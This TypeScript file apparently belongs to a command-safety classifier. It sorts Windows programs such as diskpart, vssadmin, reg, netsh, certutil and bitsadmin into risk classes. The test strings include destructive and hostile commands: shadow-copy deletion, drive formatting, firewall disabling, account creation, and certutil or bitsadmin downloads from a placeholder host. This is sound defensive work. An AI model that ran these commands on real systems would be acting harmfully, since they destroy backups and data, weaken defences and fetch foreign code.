import { always, noOperand, unless, verb, words } from "../plain.ts";
import { any, flag, not, operand, type Program, type Test } from "../table.ts";

/** Options of these programs begin with a slash, so they stand among the operands. */
const slash = (line: string): Test => {
  const known = new Set(words(line));
  return ({ operands }) => operands.some(({ text }) => known.has(text.toLowerCase().split(":")[0] ?? ""));
};

const firewallOff: Test = ({ call }) => {
  const line = call.words.map(({ text }) => text.toLowerCase());
  return line.includes("off") || line.includes("delete") || line.includes("reset") || line.includes("disable");
};

/** Programs of Windows for its registry, services, accounts, disks and guards. */
export const systemWindows = (): readonly Program[] => [
  always("diskpart format.com", "floor", ["diskpart /s a.txt"]),
  { names: ["format"], rows: [{ if: operand(/^[a-z]:$/i), does: "floor", hits: ["format c: /q"], misses: ["format src"] }] },
  unless("vssadmin wbadmin", verb("list get"), "weaken", {
    reads: ["vssadmin list shadows"],
    changes: ["vssadmin delete shadows /all", "wbadmin delete catalog"],
  }),
  unless(
    "bcdedit bootrec bootcfg fsutil",
    any(slash("/enum /v /?"), noOperand, operand(/^(?:query|info|list|statistics|drives|drivetype)/i)),
    "privilege",
    {
      reads: ["bcdedit /enum"],
      changes: ["bcdedit /set x recoveryenabled no"],
    },
  ),
  unless("reg regini", verb("query compare export"), "executable-config", {
    reads: ["reg query x"],
    changes: ["reg add x /v y /d z", "reg delete x /f"],
  }),
  always("regedit regsvr32 rundll32 mshta wscript cscript installutil", "opaque", ["regsvr32 a.dll"]),
  unless("schtasks", any(slash("/query"), noOperand), "executable-config", {
    reads: ["schtasks /query"],
    changes: ["schtasks /create /tn x /tr y", "schtasks /delete /tn x"],
  }),
  {
    names: ["sc"],
    rows: [
      { on: "query|queryex|qc|qdescription|getdisplayname", does: "harmless", hits: ["sc query"], misses: ["sc stop x"] },
      { on: "stop|delete|pause", does: "stop", hits: ["sc stop x", "sc delete x"], misses: ["sc query"] },
      { on: "create|config|start|failure|sdset", does: "executable-config", hits: ["sc create x"], misses: ["sc query"] },
    ],
  },
  {
    names: ["net", "net1"],
    rows: [
      {
        on: "user|localgroup|group|accounts|share|use",
        if: ({ rest }) => rest.length > 1,
        does: "privilege",
        hits: ["net user eve p /add"],
        misses: ["net user"],
      },
      { on: "stop|pause", does: "stop", hits: ["net stop spooler"], misses: ["net view"] },
      { on: "start", if: ({ rest }) => rest.length > 0, does: "executable-config", hits: ["net start x"], misses: ["net start"] },
      { on: "start", if: ({ rest }) => rest.length === 0, does: "harmless", hits: ["net start"], misses: ["net start x"] },
      {
        if: ({ operands }) => operands.length < 3 && !/^(?:stop|pause|start)$/.test(operands[0]?.text ?? ""),
        does: "harmless",
        hits: ["net view", "net user"],
        misses: ["net stop x"],
      },
    ],
  },
  unless("netsh", not(any(operand(/^(?:set|add|delete|reset|import|exec|disable)$/i), firewallOff)), "disarm", {
    reads: ["netsh wlan show interfaces"],
    changes: ["netsh advfirewall set allprofiles state off", "netsh interface set x"],
  }),
  unless("wmic", not(operand(/^(?:delete|call|create|set|terminate)$/i)), "stop", {
    reads: ["wmic os get caption"],
    changes: ["wmic process call create x", "wmic shadowcopy delete"],
  }),
  unless("setx", noOperand, "executable-config", { reads: ["setx"], changes: ["setx PATH x"] }),
  unless("cipher", not(slash("/w /d")), "destroy", { reads: ["cipher /c a"], changes: ["cipher /w:C"] }),
  unless("certutil", not(flag("-urlcache", "-decode", "-decodehex", "-addstore", "-delstore", "-verifyctl")), "run-foreign", {
    reads: ["certutil -hashfile a SHA256"],
    changes: ["certutil -urlcache -f http://x.test/a a"],
    singleDash: true,
  }),
  unless("bitsadmin", slash("/list /info"), "run-foreign", {
    reads: ["bitsadmin /list"],
    changes: ["bitsadmin /transfer x http://x.test/a a"],
  }),
  unless("powercfg", any(slash("/list /query /l /q /a"), noOperand), "privilege", {
    reads: ["powercfg /list"],
    changes: ["powercfg /hibernate off"],
  }),
  always("findstr where tasklist systeminfo ver vol ipconfig fc comp more.com chcp title cls rem pause", "harmless", [
    "findstr foo a.txt",
    "tasklist",
  ]),
];
